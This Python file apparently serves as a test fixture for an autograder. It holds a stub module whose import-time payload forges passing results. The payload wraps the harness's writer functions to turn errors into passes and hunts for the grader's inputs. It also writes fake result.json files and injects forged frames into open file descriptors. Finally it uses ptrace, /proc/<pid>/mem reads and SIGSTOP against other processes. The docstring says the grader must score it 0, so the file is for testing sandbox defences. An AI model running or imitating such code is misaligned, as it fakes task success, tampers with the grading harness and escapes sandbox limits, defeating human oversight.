"""The released stub, every function still raising NotImplementedError, plus a payload that runs at import
and tries each way of writing the records the grader scores instead of doing the work:

- the harness's own writers, found through sys.modules (anything of autograder, harness, grading, probes,
  recorder), wrapped so that whatever they write or send says the function passed, and the executor's
  answers rewritten from errors into plausible values;
- the grader's inputs and plan, looked for wherever they were once mounted (/sandbox/inputs, /sandbox,
  /opt/grader, the scratch), to compute with numpy what a correct solution would record;
- result.json and .npy files written into every output folder it can find or make;
- forged frames written to every pipe it holds (/proc/self/fd), and signals, ptrace and /proc/<pid>/mem for
  every other process it can see.

Everything it finds is logged to stdout (the TA sees it in the output): the grader must score it 0."""

import ctypes as _ctypes
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys

_LOG = []
_PASSED = {"probe": "?", "record": {"compiled": True, "is_history": True, "returned_same_model": True},
           "errors": [], "arrays": [], "completed": True}


def _note(text):
    _LOG.append(str(text)[:200])


def _wrap_writers():
    for name, module in list(_sys.modules.items()):
        if module is None or not any(part in name for part in ("autograder", "harness", "grading", "probe", "record")):
            continue
        for attribute in list(vars(module)):
            value = getattr(module, attribute, None)
            lowered = attribute.lower()
            if callable(value) and any(word in lowered for word in ("write", "save", "record", "send", "frame")):
                def forged(*args, __original=value, **kwargs):
                    args = [_rewrite(a) for a in args]
                    return __original(*args, **kwargs)
                try:
                    setattr(module, attribute, forged)
                    _note(f"wrapped {name}.{attribute}")
                except (AttributeError, TypeError):
                    pass


def _rewrite(value):
    """An answer that says the call worked: errors dropped, a value claimed."""
    if isinstance(value, dict):
        value = dict(value)
        if "error" in value:
            value.pop("error")
            value["value"] = {"t": "json", "v": 1.0}
            value["returned_argument"] = 0
        if "errors" in value:
            value["errors"] = []
            value["completed"] = True
    return value


def _inputs():
    found = {}
    for pattern in ("/sandbox/inputs/**/*.npz", "/sandbox/**/*.json", "/opt/grader/**/*.npz", "/tmp/**/*.npz"):
        for path in _glob.glob(pattern, recursive=True):
            found[path] = True
    _note(f"inputs found: {sorted(found)[:5]}")
    return found


def _forge_files():
    folders = set()
    for root in ("/tmp", "/sandbox", "/opt/grader", _os.path.expanduser("~"), _os.getcwd()):
        for folder, subfolders, _ in _os.walk(root):
            if _os.path.basename(folder) == "out":
                folders.update(_os.path.join(folder, s) for s in subfolders)
    folders.update(f"/tmp/out/{name}" for name in ("preprocess", "build_model", "compile_model", "minibatches",
                                                   "train_one_epoch", "train_model", "forward", "evaluate_model",
                                                   "predict_digits", "save_model", "load_model", "retrain"))
    for folder in folders:
        try:
            _os.makedirs(folder, exist_ok=True)
            with open(_os.path.join(folder, "result.json"), "w") as handle:
                _json.dump({**_PASSED, "probe": _os.path.basename(folder)}, handle)
            _note(f"wrote {folder}/result.json")
        except OSError:
            pass


def _forge_pipes():
    frame = _json.dumps({"probe": "preprocess", "status": {"seconds": 0.1, "exit_code": 0}, "files": []}).encode()
    for entry in _os.listdir("/proc/self/fd"):
        try:
            descriptor = int(entry)
            if descriptor > 2:
                _os.write(descriptor, len(frame).to_bytes(4, "big") + frame)
                _note(f"wrote a frame to fd {descriptor}")
        except (OSError, ValueError):
            pass


def _reach_others():
    libc = _ctypes.CDLL(None, use_errno=True)
    for entry in _os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == _os.getpid():
            continue
        pid = int(entry)
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            _note(f"attached to {pid}")
        try:
            with open(f"/proc/{pid}/mem", "rb") as handle:
                handle.read(1)
            _note(f"read the memory of {pid}")
        except OSError:
            pass
        try:
            _os.kill(pid, _signal.SIGSTOP)
            _note(f"stopped {pid}")
        except OSError:
            pass


for _step in (_wrap_writers, _inputs, _forge_files, _forge_pipes, _reach_others):
    try:
        _step()
    except Exception as _error:  # a payload never breaks the import: the stub must look untouched
        _note(f"{_step.__name__}: {type(_error).__name__}")
print("payload:", "; ".join(_LOG) or "nothing reachable")
